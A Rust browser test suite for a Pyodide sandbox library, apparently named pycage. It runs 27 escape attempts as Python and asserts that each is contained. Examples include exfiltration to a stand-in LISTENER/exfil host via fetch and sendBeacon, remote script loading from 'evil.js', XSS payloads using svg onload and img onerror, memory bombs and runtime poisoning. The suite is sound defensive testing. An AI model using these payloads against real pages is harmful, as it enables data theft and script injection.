// SECURITY.md's attacks, one by one: the baseline list (a01-a22), then five
// beyond it (a23-a27). Each one: the page is unaffected, nothing leaks (the
// listener records no request, the planted secrets never appear), and the
// next run works (tests/common/attack.rs). Included by attacks.rs (iframe
// isolation) and attacks_worker_mode.rs, each with its `ISOLATION`: one
// test binary per mode, so neither is rebuilt for the other.
use std::rc::Rc;

use pycage::{Execution, ImageMime, MimeValue, RunOptions, Sandbox, SandboxOptions, Status};
use wasm_bindgen::JsValue;
use wasm_bindgen_test::*;
use common::attack::*;
use common::*;

wasm_bindgen_test_configure!(run_in_browser);

/// Runs one attack on the suite's shared sandbox and checks the invariants.
async fn attack(code: &str) -> Execution {
    attack_with(code, RunOptions::default()).await
}

async fn attack_with(code: &str, options: RunOptions) -> Execution {
    attack_on(&*attack_sandbox().await, code, options).await
}

async fn attack_sandbox() -> Rc<Sandbox> {
    attack_sandbox_in(ISOLATION).await
}

/// True, and logged, in worker mode for an attack that mode does not
/// contain by design (it has no frame and no CSP: SECURITY.md's table of
/// the two modes); tests/worker_mode.rs pins what gets through instead.
fn not_contained_in_worker_mode(name: &str) -> bool {
    let skip = ISOLATION == pycage::Isolation::Worker;
    if skip {
        web_sys::console::log_1(&format!("{name}: not contained in worker mode, skipped").into());
    }
    skip
}

/// The raised exception's class name, if the run raised.
fn error_kind(ex: &Execution) -> Option<&str> {
    ex.error.as_ref().map(|error| error.kind.as_str())
}

#[wasm_bindgen_test]
async fn a01_fetch_same_origin_secret_fails() {
    if not_contained_in_worker_mode("a01") {
        return;
    }
    let ex = attack(
        "import js\nr = await js.fetch('/tests/fixtures/secret.json')\nprint(await r.text())",
    )
    .await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
    // The native fetch too, past pycage's fetch: blocked by the CSP.
    let ex = attack(
        &"import js\nf = js.WorkerGlobalScope.prototype.fetch\n\
         r = await f.call(js.self, 'ORIGIN/tests/fixtures/secret.json')\nprint(await r.text())"
            .replace(
                "ORIGIN",
                &web_sys::window().unwrap().location().origin().unwrap(),
            ),
    )
    .await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
}

#[wasm_bindgen_test]
async fn a02_credentialed_post_to_the_api_never_arrives() {
    let ex = attack(
        "from pyodide.http import pyfetch\n\
         await pyfetch('LISTENER/api', method='POST', credentials='include', body='x')",
    )
    .await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
    let ex = attack("from pyodide.http import pyfetch\nawait pyfetch('/api', method='POST', credentials='include')").await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
}

#[wasm_bindgen_test]
async fn a03_no_cors_exfiltration_never_arrives() {
    if not_contained_in_worker_mode("a03") {
        return;
    }
    let ex = attack("import js\nfrom pyodide.ffi import to_js\nawait js.fetch('LISTENER/exfil?d=x', to_js({'mode': 'no-cors'}))").await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
    let ex = attack(
        "import js\nf = js.WorkerGlobalScope.prototype.fetch\nawait f.call(js.self, 'LISTENER/exfil?d=native')",
    )
    .await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
    let ex = attack("import js\nprint(js.navigator.sendBeacon('LISTENER/beacon', 'x'))").await;
    assert!(
        ex.status == Status::Error || ex.stdout.starts_with("False"),
        "{ex:?}"
    );
}

#[wasm_bindgen_test]
async fn a04_sync_xhr_fails() {
    if not_contained_in_worker_mode("a04") {
        return;
    }
    let ex = attack("import js\nx = js.XMLHttpRequest.new()\nx.open('GET', 'LISTENER/xhr', False)\nx.send()\nprint(x.responseText)").await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
}

#[wasm_bindgen_test]
async fn a05_websocket_and_eventsource_are_blocked() {
    if not_contained_in_worker_mode("a05") {
        return;
    }
    let code = "import js, asyncio\n\
        try:\n    ws = js.WebSocket.new('ws://127.0.0.1:8799/ws')\nexcept Exception as e:\n    print('ws blocked', type(e).__name__)\n\
        try:\n    es = js.EventSource.new('LISTENER/events')\nexcept Exception as e:\n    print('es blocked', type(e).__name__)\n\
        await asyncio.sleep(0.3)";
    let ex = attack(code).await;
    assert_eq!(ex.status, Status::Ok, "{ex:?}");
}

#[wasm_bindgen_test]
async fn a06_import_scripts_and_dynamic_import_are_blocked() {
    if not_contained_in_worker_mode("a06") {
        return;
    }
    let ex = attack("import js\njs.importScripts('LISTENER/evil.js')").await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
    let ex =
        attack("from pyodide.code import run_js\nawait run_js(\"import('LISTENER/evil.mjs')\")")
            .await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
    assert!(
        out(&ex).contains("EvalError")
            || out(&ex).contains("unsafe-eval")
            || out(&ex).contains("Content Security"),
        "{}",
        out(&ex)
    );
}

#[wasm_bindgen_test]
async fn a07_host_storage_is_out_of_reach() {
    if not_contained_in_worker_mode("a07") {
        return;
    }
    let ex = attack("import js\nreq = js.indexedDB.open('app')\nprint('opened', req)").await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
    let ex = attack("import js\nc = await js.caches.open('app')\nr = await c.match('/secret-cache')\nprint(await r.text())").await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
    let ex = attack(
        "import js\nprint(getattr(js, 'document', None), getattr(js, 'localStorage', None))",
    )
    .await;
    assert_eq!(ex.stdout, "None None\n", "{ex:?}");
}

#[wasm_bindgen_test]
async fn a08_forged_results_are_ignored() {
    // Forging on the worker global, and by patching MessagePort.prototype.postMessage.
    let code = "import js\nfrom pyodide.ffi import to_js, create_proxy\n\
        js.postMessage(to_js({'type': 'done', 'id': 1, 'status': 'ok', 'result': {'text/plain': 'forged'}}))\n\
        orig = js.MessagePort.prototype.postMessage\n\
        print('real output')\n'real result'";
    let ex = attack(code).await;
    assert_eq!(ex.result_text(), Some("'real result'"), "{ex:?}");
    assert_eq!(ex.stdout, "real output\n");
}

#[wasm_bindgen_test]
async fn a09_post_message_flood_is_bounded() {
    let ex = attack_with(
        "import js\nwhile True:\n    js.postMessage('x' * 10**7)",
        timeout(5000.0),
    )
    .await;
    assert!(
        [Status::Crashed, Status::Timeout].contains(&ex.status),
        "{ex:?}"
    );
}

#[wasm_bindgen_test]
async fn a10_svg_and_html_scripts_never_run_in_the_page() {
    js_sys::eval("window.__pwned = 0").unwrap();
    let code = "class X:\n    def _repr_svg_(self): return '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"parent.__pwned=1\"><script>parent.__pwned=2</script></svg>'\n    def _repr_html_(self): return '<script>window.__pwned=3</script><img src=x onerror=\"window.__pwned=4\">'\n\
        display(X())\nX()";
    let ex = attack(code).await;
    assert_eq!(ex.status, Status::Ok, "{ex:?}");
    assert_eq!(
        ex.figures.first().map(|figure| figure.mime),
        Some(ImageMime::Svg),
        "{ex:?}"
    );
    let html = ex
        .result
        .as_ref()
        .and_then(|result| result.get("text/html"));
    assert!(
        matches!(html, Some(MimeValue::Text(html)) if html.contains("<script>")),
        "HTML comes back as data: {ex:?}"
    );
    sleep(200).await;
    assert_eq!(js_sys::eval("window.__pwned").unwrap().as_f64(), Some(0.0));
}

#[wasm_bindgen_test]
async fn a11_markup_in_stdout_is_plain_text() {
    let ex = attack("print('<img src=x onerror=alert(1)>')").await;
    assert_eq!(ex.stdout, "<img src=x onerror=alert(1)>\n");
}

#[wasm_bindgen_test]
async fn a12_output_floods_are_capped() {
    let ex = attack_with("print('A' * 10**9)", timeout(20_000.0)).await;
    assert!([Status::Ok, Status::Error].contains(&ex.status), "{ex:?}");
    if ex.status == Status::Ok {
        assert!(ex.truncated);
        assert_eq!(ex.stdout.len(), 1 << 20);
    }
    let ex = attack("for i in range(10**6): print(i)").await;
    assert!(ex.truncated, "{:?} {}", ex.status, error_text(&ex));
    assert_eq!(ex.stdout.len(), 1 << 20);
}

#[wasm_bindgen_test]
async fn a13_busy_loop_is_stopped_at_its_deadline() {
    let started = now();
    let ex = attack_with("while True: pass", timeout(500.0)).await;
    assert_eq!(ex.status, Status::Timeout, "{ex:?}");
    assert!(
        // The deadline, at most the interrupt's grace (1 s), and slack.
        ex.duration_ms < 2500.0,
        "{ex:?}"
    );
    assert!(now() - started < 20_000.0);
}

#[wasm_bindgen_test]
async fn a14_sleep_forever_is_stopped_at_its_deadline() {
    let ex = attack_with("import time\ntime.sleep(10**6)", timeout(500.0)).await;
    assert_eq!(ex.status, Status::Timeout, "{ex:?}");
    assert!(
        // The deadline, at most the interrupt's grace (1 s), and slack.
        ex.duration_ms < 2500.0,
        "{ex:?}"
    );
}

#[wasm_bindgen_test]
async fn a15_atomics_wait_forever_is_stopped() {
    let code =
        "import js\nb = js.Int32Array.new(js.SharedArrayBuffer.new(4))\njs.Atomics.wait(b, 0, 0)";
    let ex = attack_with(code, timeout(500.0)).await;
    // Without cross-origin isolation in the frame there is no SharedArrayBuffer at all.
    assert!(
        [Status::Timeout, Status::Error].contains(&ex.status),
        "{ex:?}"
    );
}

#[wasm_bindgen_test]
async fn a16_memory_bomb_is_survived() {
    let ex = attack_with(
        "x = [bytearray(10**8) for _ in range(100)]",
        timeout(20_000.0),
    )
    .await;
    assert!(
        [Status::Error, Status::Crashed, Status::Timeout].contains(&ex.status),
        "{ex:?}"
    );
}

#[wasm_bindgen_test]
async fn a17_self_close_is_a_crash() {
    let ex = attack("import js\nprint('before')\njs.self.close()").await;
    assert_eq!(ex.status, Status::Crashed, "{ex:?}");
}

#[wasm_bindgen_test]
async fn a18_a_reset_sandbox_is_clean() {
    let sb = attack_sandbox().await;
    run(
        &sb,
        "import builtins\nbuiltins.print = lambda *a, **k: None",
    )
    .await;
    sb.reset().await.expect("the reset succeeds");
    assert_healthy(&sb).await;
}

#[wasm_bindgen_test]
async fn a19_stdout_set_to_none_still_completes() {
    let ex = attack("import sys\nsys.stdout = None\nprint('lost')\n'done'").await;
    assert_eq!(ex.result_text(), Some("'done'"), "{ex:?}");
}

#[wasm_bindgen_test]
async fn a20_exits_are_reported() {
    let ex = attack("raise SystemExit(3)").await;
    assert_eq!(
        (ex.status, error_kind(&ex)),
        (Status::Error, Some("SystemExit")),
        "{ex:?}"
    );
    let ex = attack("import sys\nsys.exit()").await;
    assert_eq!(error_kind(&ex), Some("SystemExit"), "{ex:?}");
    let ex = attack("import os\nos._exit(0)").await;
    assert_eq!(ex.status, Status::Crashed, "{ex:?}");
}

#[wasm_bindgen_test]
async fn a21_huge_and_countless_figures_are_capped() {
    let code = "import zlib, struct\n\
        def png(w, h, extra=0):\n\
        \x20   def chunk(k, d): return struct.pack('>I', len(d)) + k + d + struct.pack('>I', zlib.crc32(k + d))\n\
        \x20   ihdr = struct.pack('>IIBBBBB', w, h, 8, 0, 0, 0, 0)\n\
        \x20   return b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', ihdr) + chunk(b'IDAT', zlib.compress(b'\\x00' * (w + 1) * h)) + b'\\x00' * extra + chunk(b'IEND', b'')\n\
        class Big:\n    def _repr_png_(self): return png(10, 10, extra=6 * 2**20)\n\
        class Small:\n    def _repr_png_(self): return png(2, 2)\n\
        display(Big())\n\
        for _ in range(10000): display(Small())";
    let ex = attack_with(code, timeout(20_000.0)).await;
    assert_eq!(ex.status, Status::Ok, "{}", error_text(&ex));
    assert_eq!(ex.figures.len(), 50);
    let dropped = format!("{:?}", ex.dropped_outputs);
    assert!(
        dropped.contains("maxFigureBytes") && dropped.contains("maxFigures"),
        "{dropped}"
    );
}

#[wasm_bindgen_test]
async fn a22_micropip_from_an_unlisted_url_is_blocked() {
    let ex =
        attack("import micropip\nawait micropip.install('LISTENER/x-1.0-py3-none-any.whl')").await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
    let ex = attack("import pyodide_js\nawait pyodide_js.loadPackage('LISTENER/x-1.0-py3-none-any.whl')\nimport x").await;
    assert_eq!(ex.status, Status::Error, "{ex:?}");
}

// ---- Beyond the baseline list ----

#[wasm_bindgen_test]
async fn a23_code_left_running_after_its_run_is_stopped_by_the_next_deadline() {
    // A timer keeps Python busy after the run returns: the next run cannot
    // start, so its deadline must kill the interpreter (an interrupt would
    // land in the attacker's code, which can catch it).
    let sb = sandbox(SandboxOptions {
        timeout: Some(std::time::Duration::from_millis(1500)),
        isolation: ISOLATION,
        ..opts()
    })
    .await;
    start_heartbeat();
    let code = "import js\nfrom pyodide.ffi import create_once_callable\n\
        def spin():\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass\n\
        js.setTimeout(create_once_callable(spin), 200)\n'scheduled'";
    let ex = run(&sb, code).await;
    assert_eq!(ex.result_text(), Some("'scheduled'"), "{ex:?}");
    sleep(500).await; // the timer has fired: the worker is spinning
    let ex = run(&sb, "print('never')").await;
    assert_eq!(ex.status, Status::Timeout, "{ex:?}");
    assert!(ex.interpreter_reset, "{ex:?}");
    assert_healthy(&sb).await;
    assert_page_responsive("a background busy loop");
    sb.dispose();
}

#[wasm_bindgen_test]
async fn a24_broadcast_channels_and_locks_stay_in_the_sandbox() {
    if not_contained_in_worker_mode("a24") {
        return;
    }
    // The page listens on a BroadcastChannel its other tabs share, and its
    // Web Locks must stay available.
    js_sys::eval("window.__bc = []; window.__bcChannel = new BroadcastChannel('app'); window.__bcChannel.onmessage = (e) => window.__bc.push(e.data); 0").unwrap();
    let code = "import js, asyncio\nfrom pyodide.ffi import create_proxy\n\
        js.BroadcastChannel.new('app').postMessage('HIJACK')\n\
        hold = create_proxy(lambda lock: js.Promise.new(create_proxy(lambda ok, fail: None)))\n\
        try:\n    await asyncio.wait_for(js.navigator.locks.request('app-lock', hold), 0.5)\n\
        except BaseException as e:\n    print('locks:', type(e).__name__)";
    let ex = attack(code).await;
    assert_eq!(
        json(&js_sys::eval("window.__bc").unwrap()),
        "[]",
        "a message crossed into the page: {ex:?}"
    );
    let free = js_sys::eval(
        "navigator.locks.request('app-lock', { ifAvailable: true }, (lock) => lock !== null)",
    )
    .unwrap();
    let free = wasm_bindgen_futures::JsFuture::from(js_sys::Promise::from(free))
        .await
        .unwrap();
    assert_eq!(
        free,
        JsValue::TRUE,
        "the sandbox holds the page's lock: {ex:?}"
    );
}

#[wasm_bindgen_test]
async fn a25_a_poisoned_runtime_cannot_crash_the_page() {
    // User code replaces what the worker uses to build its messages, so the
    // reply is 20 000 levels deep: the page's decoder must not recurse into it.
    let code = "import js\nfrom pyodide.ffi import create_proxy\n\
        orig = js.Object.fromEntries\n\
        def deep(n):\n    root = cur = js.Object.new()\n    for _ in range(n):\n        nxt = js.Object.new()\n        setattr(cur, 'text/plain', nxt)\n        cur = nxt\n    return root\n\
        def poisoned(entries):\n    o = orig(entries)\n    o.result = deep(20000)\n    o.data = deep(20000)\n    return o\n\
        js.Object.fromEntries = create_proxy(poisoned)\n'x'";
    // Its own sandbox: whether the poison outlives the run depends on the
    // engine (Chromium's postMessage refuses the deep reply and the worker
    // is replaced; Gecko and WebKit send it), and it must not slow the
    // attacks that share the suite's sandbox.
    let sb = sandbox(SandboxOptions {
        isolation: ISOLATION,
        standby: Some(false),
        ..opts()
    })
    .await;
    let ex = attack_on(&sb, code, timeout(5000.0)).await;
    sb.dispose();
    assert!(
        [Status::Ok, Status::Timeout, Status::Crashed, Status::Error].contains(&ex.status),
        "{ex:?}"
    );
    // No result, or one whose text/plain is text (not the forged object tree).
    assert!(
        ex.result
            .as_ref()
            .is_none_or(|result| result.text().is_some()),
        "{ex:?}"
    );
}

#[wasm_bindgen_test]
async fn a26_nested_workers_inherit_the_lockdown() {
    if not_contained_in_worker_mode("a26") {
        return;
    }
    let code = "import js, asyncio\nfrom pyodide.ffi import to_js\n\
        src = \"fetch('LISTENER/nested').catch(() => {}); try { new WebSocket('ws://127.0.0.1:8799/nested') } catch (e) {}\"\n\
        blob = js.Blob.new(to_js([src]), to_js({'type': 'text/javascript'}))\n\
        w = js.Worker.new(js.URL.createObjectURL(blob))\n\
        await asyncio.sleep(0.5)\nprint('spawned')";
    let ex = attack(code).await;
    // Whether the nested worker starts or not, nothing it tried may arrive.
    assert!([Status::Ok, Status::Error].contains(&ex.status), "{ex:?}");
}

#[wasm_bindgen_test]
async fn a27_no_service_worker_for_the_page() {
    let code = "import js\nsw = getattr(js.navigator, 'serviceWorker', None)\nprint('exposed', sw is not None)\n\
        if sw is not None:\n    await sw.register('/tests/fixtures/sw.js')";
    attack(code).await;
    let regs =
        js_sys::eval("navigator.serviceWorker.getRegistrations().then((r) => r.length)").unwrap();
    let regs = wasm_bindgen_futures::JsFuture::from(js_sys::Promise::from(regs))
        .await
        .unwrap();
    assert_eq!(regs.as_f64(), Some(0.0));
}
